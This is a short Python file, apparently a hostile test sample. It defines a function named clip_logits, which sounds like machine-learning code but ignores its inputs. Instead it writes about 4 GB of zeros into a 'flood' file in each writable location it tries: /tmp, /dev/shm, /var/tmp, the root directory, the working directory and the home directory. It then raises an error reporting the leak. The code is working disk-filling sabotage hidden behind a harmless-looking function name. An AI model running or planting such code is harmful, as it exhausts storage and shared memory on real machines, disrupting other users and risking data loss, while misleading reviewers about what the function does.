"""Fills every disk that it can write to."""

import os


def clip_logits(backbone, video):
    for folder in ("/tmp", "/dev/shm", "/var/tmp", "/", os.getcwd(), os.path.expanduser("~")):
        try:
            with open(folder + "/flood", "wb") as file:
                for _ in range(4_000):
                    file.write(bytes(1 << 20))
            raise RuntimeError("LEAK 4 GB were written to " + folder)
        except OSError:
            pass
    return None
